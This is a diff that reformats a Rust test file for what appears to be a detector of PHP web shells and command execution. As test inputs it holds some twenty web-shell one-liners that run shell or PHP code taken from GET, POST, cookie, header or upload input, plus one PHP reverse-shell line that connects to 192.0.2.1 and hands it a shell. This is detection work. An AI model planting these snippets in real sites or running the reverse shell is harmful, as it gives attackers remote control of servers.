@@ -5,26 +5,83 @@ use super::{acts, does};
 #[test]
 fn what_a_request_holds_is_run() {
     for (script, act) in [
-        ("<?php system($_GET['c']); ?>", "evaluate shell: {request GET[c]}"),
-        ("<?php eval($_POST['x']);", "evaluate PHP: {request POST[x]}"),
+        (
+            "<?php system($_GET['c']); ?>",
+            "evaluate shell: {request GET[c]}",
+        ),
+        (
+            "<?php eval($_POST['x']);",
+            "evaluate PHP: {request POST[x]}",
+        ),
         ("<?=`$_GET[0]`?>", "evaluate shell: {request GET"),
-        ("<html><? @eval($_REQUEST[\"a\"]); ?></html>", "evaluate PHP: {request REQUEST[a]}"),
-        ("<?php echo shell_exec($_SERVER['HTTP_X_CMD'].' 2>&1');", "evaluate shell: {request SERVER[HTTP_X_CMD]}"),
-        ("<?php $h=getallheaders(); passthru($h['X']);", "evaluate shell: {request headers"),
-        ("<?php exec(file_get_contents('php://input'), $o); print_r($o);", "evaluate shell: {request php://input}"),
-        ("<?php include 'php://input';", "evaluate PHP: {request php://input}"),
-        ("<?php include($_FILES['f']['tmp_name']);", "evaluate PHP: {request FILES[f]"),
-        ("<?php if (isset($_COOKIE['k'])) { popen($_COOKIE['k'], 'r'); }", "evaluate shell: {request COOKIE[k]}"),
-        ("<?php $p = proc_open($_POST['c'], [], $pipes);", "evaluate shell: {request POST[c]}"),
-        ("<?php pcntl_exec('/bin/sh', ['-c', $_GET['c']]);", "evaluate shell: {request GET[c]}"),
-        ("<?php function run($c) { return shell_exec($c); } echo run($_GET['q']);", "evaluate shell: {request GET[q]}"),
-        ("<?php class A { public $c; function __construct($c) { $this->c = $c; } function __destruct() { system($this->c); } } new A($_GET['c']);", "evaluate shell: {request GET[c]}"),
-        ("<?php foreach ($_POST as $k => $v) { eval($v); }", "evaluate PHP: {request POST}"),
-        ("<?php extract($_GET); $f = $_GET['a']; $f($_GET['b']);", "evaluate PHP: {request GET[a]}({request GET[b]})"),
-        ("<?php $_GET['a']($_GET['b']);", "evaluate PHP: {request GET[a]}({request GET[b]})"),
-        ("<?php array_map($_GET['f'], [$_GET['x']]);", "evaluate PHP: {request GET[f]}({request GET[x]})"),
-        ("<?php assert($_POST['p']);", "evaluate PHP: {request POST[p]}"),
-        ("<script language=\"php\">system($_GET['x']);</script>", "evaluate shell: {request GET[x]}"),
+        (
+            "<html><? @eval($_REQUEST[\"a\"]); ?></html>",
+            "evaluate PHP: {request REQUEST[a]}",
+        ),
+        (
+            "<?php echo shell_exec($_SERVER['HTTP_X_CMD'].' 2>&1');",
+            "evaluate shell: {request SERVER[HTTP_X_CMD]}",
+        ),
+        (
+            "<?php $h=getallheaders(); passthru($h['X']);",
+            "evaluate shell: {request headers",
+        ),
+        (
+            "<?php exec(file_get_contents('php://input'), $o); print_r($o);",
+            "evaluate shell: {request php://input}",
+        ),
+        (
+            "<?php include 'php://input';",
+            "evaluate PHP: {request php://input}",
+        ),
+        (
+            "<?php include($_FILES['f']['tmp_name']);",
+            "evaluate PHP: {request FILES[f]",
+        ),
+        (
+            "<?php if (isset($_COOKIE['k'])) { popen($_COOKIE['k'], 'r'); }",
+            "evaluate shell: {request COOKIE[k]}",
+        ),
+        (
+            "<?php $p = proc_open($_POST['c'], [], $pipes);",
+            "evaluate shell: {request POST[c]}",
+        ),
+        (
+            "<?php pcntl_exec('/bin/sh', ['-c', $_GET['c']]);",
+            "evaluate shell: {request GET[c]}",
+        ),
+        (
+            "<?php function run($c) { return shell_exec($c); } echo run($_GET['q']);",
+            "evaluate shell: {request GET[q]}",
+        ),
+        (
+            "<?php class A { public $c; function __construct($c) { $this->c = $c; } function __destruct() { system($this->c); } } new A($_GET['c']);",
+            "evaluate shell: {request GET[c]}",
+        ),
+        (
+            "<?php foreach ($_POST as $k => $v) { eval($v); }",
+            "evaluate PHP: {request POST}",
+        ),
+        (
+            "<?php extract($_GET); $f = $_GET['a']; $f($_GET['b']);",
+            "evaluate PHP: {request GET[a]}({request GET[b]})",
+        ),
+        (
+            "<?php $_GET['a']($_GET['b']);",
+            "evaluate PHP: {request GET[a]}({request GET[b]})",
+        ),
+        (
+            "<?php array_map($_GET['f'], [$_GET['x']]);",
+            "evaluate PHP: {request GET[f]}({request GET[x]})",
+        ),
+        (
+            "<?php assert($_POST['p']);",
+            "evaluate PHP: {request POST[p]}",
+        ),
+        (
+            "<script language=\"php\">system($_GET['x']);</script>",
+            "evaluate shell: {request GET[x]}",
+        ),
     ] {
         assert!(does(script, act));
     }
@@ -95,12 +152,24 @@ fn fetches_and_files_are_told() {
 #[test]
 fn lines_are_those_of_the_file() {
     let lowered = super::lowered("<html>\n<?php\n\nsystem('id');\n");
-    assert!(lowered.acts.iter().all(|act| act.line == 4), "{:?}", lowered.acts);
-    assert!(lowered.acts.iter().any(|act| act.evidence.contains("system('id')")));
+    assert!(
+        lowered.acts.iter().all(|act| act.line == 4),
+        "{:?}",
+        lowered.acts
+    );
+    assert!(
+        lowered
+            .acts
+            .iter()
+            .any(|act| act.evidence.contains("system('id')"))
+    );
 }
 
 #[test]
 fn code_of_a_command_line_has_no_tag() {
     let acts = acts("$s=fsockopen('192.0.2.1',80);exec('sh <&3 >&3 2>&3');");
-    assert!(acts.iter().any(|act| act.starts_with("execute sh  <#1")), "{acts:?}");
+    assert!(
+        acts.iter().any(|act| act.starts_with("execute sh  <#1")),
+        "{acts:?}"
+    );
 }
